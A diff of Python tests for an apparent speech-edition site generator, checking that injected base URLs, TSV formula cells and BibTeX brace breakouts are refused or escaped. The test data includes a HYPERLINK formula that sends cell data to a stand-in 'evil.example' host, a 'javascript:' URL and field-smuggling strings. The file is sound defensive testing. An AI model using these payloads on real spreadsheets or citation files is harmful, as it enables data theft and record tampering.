@@ -254,3 +254,56 @@ def test_odd_files_among_the_speeches_are_reported(tmp_path: Path) -> None:
         expected.append("content/speeches/secret.md: error[file-unreadable]: the file cannot be read: "
                         "Permission denied")
     assert found == expected
+
+
+# ---------------------------------------------------------------- 8. base_url
+
+def test_base_url_must_be_a_plain_absolute_http_url(tmp_path: Path) -> None:
+    from .conftest import SITE_YML
+
+    base = 'base_url: "https://example.org/ed/"'
+    headlines, _ = refused(tmp_path, {"content/site.yml": SITE_YML.replace(
+        base, 'base_url: "https://example.org/ed/\\nDisallow: /"')})
+    assert headlines == ["content/site.yml:2:11: error[bad-url]: base_url may not contain U+000A (write it "
+                         "percent-encoded), found `https://example.org/ed/\\x0aDisallow: /`"]
+    headlines, _ = refused(tmp_path / "b", {"content/site.yml": SITE_YML.replace(
+        base, 'base_url: "https://example.org/ed/},note={x"')})
+    assert headlines == ["content/site.yml:2:11: error[bad-url]: base_url may not contain `}` (write it "
+                         "percent-encoded), found `https://example.org/ed/},note={x`"]
+    headlines, _ = refused(tmp_path / "c", {}, "--base-url", "javascript:alert(1)//")
+    assert headlines == ["--base-url: error[bad-url]: --base-url must be an absolute http(s) URL, e.g. "
+                         "`https://example.org/speeches/`, found `javascript:alert(1)//`"]
+    headlines, _ = refused(tmp_path / "d", {}, "--base-url", "https://example.org/x/?a=1")
+    assert headlines == ["--base-url: error[bad-url]: --base-url may not have a query (`?`) or fragment (`#`): "
+                         "every page's address starts with it, found `https://example.org/x/?a=1`"]
+
+
+# ---------------------------------------------------------------- 9. TSV and BibTeX/RIS escaping
+
+def test_tsv_cells_are_guarded_and_read_back_exactly(tmp_path: Path) -> None:
+    import csv
+
+    texts = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1 more", "-5 percent", "@SUM(A1)",
+             '"Quoted" at the start', "Tab\tinside"]
+    zh = "\n\n".join(f"第{i}段。" for i in range(1, len(texts) + 1))
+    en = "\n\n".join(texts)
+    root = write_site(tmp_path / "site", {**base_files(), "content/speeches/first.md":
+                                          speech(body=f"::: zh\n{zh}\n:::\n\n::: en\n{en}\n:::\n")})
+    code, printed = run("--root", str(root))
+    assert code == 0, printed
+    with (root / "_site" / "exports" / "aligned.tsv").open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f, dialect="excel-tab"))
+    assert [r[2] for r in rows[1:]] == ["'" + texts[0], "'+1 more", "'-5 percent", "'@SUM(A1)",
+                                        '"Quoted" at the start', "Tab inside"]
+    assert all(len(r) == 4 for r in rows)
+
+
+def test_bibtex_url_field_cannot_break_out_of_its_braces() -> None:
+    import bibtexparser
+
+    from edition.cite import _url
+
+    assert _url("https://example.org/a%20b/{x}\\y z") == "https://example.org/a%20b/%7Bx%7D%5Cy%20z"
+    entry = "@misc{k,\n  url = {" + _url("https://e.org/},\n  note = {pwned") + "}\n}\n"
+    lib = bibtexparser.parse_string(entry)
+    assert lib.failed_blocks == [] and set(lib.entries[0].fields_dict) == {"url"}
